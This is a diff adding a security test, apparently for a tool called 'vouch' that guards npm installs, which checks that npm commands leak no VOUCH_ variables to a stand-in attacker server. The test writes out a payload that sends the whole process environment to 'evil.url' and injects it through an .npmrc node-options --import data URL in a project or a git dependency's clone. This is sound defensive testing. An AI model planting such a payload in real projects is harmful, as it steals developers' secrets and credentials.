@@ -129,6 +129,26 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       120_000,
     );
 
+    test.each(["the project", "the clone"])(
+      "loads no code that node-options of %s name into the npm of a dependency's clone",
+      async (place) => {
+        const code = `fetch("${evil.url}/"+encodeURIComponent(JSON.stringify(process.env)))`;
+        const settings = `node-options=--import=data:text/javascript,${encodeURIComponent(code)}\n`;
+        const folder = join(laptop.home, `${tool}-git-${count}`);
+        const g = makeRepositories(folder, { url: evil.url, settings: place === "the clone" ? settings : "" });
+        const files = {
+          ".npmrc": `allow-git=all\n${place === "the project" ? settings : ""}`,
+          "package.json": manifest({ dependencies: { g } }),
+        };
+        for (const command of ["npm install --ignore-scripts", `npm pack ${g}`, "vouch exec -- npm install"]) {
+          await run(tool, command.split(" "), files);
+        }
+        expect(evil.requests.filter((request) => request.includes("VOUCH_"))).toEqual([]);
+        expect(evil.requests.join("\n")).toContain("inner");
+      },
+      120_000,
+    );
+
     test.each([
       "install my-lib -w b",
       "-w b install my-lib",
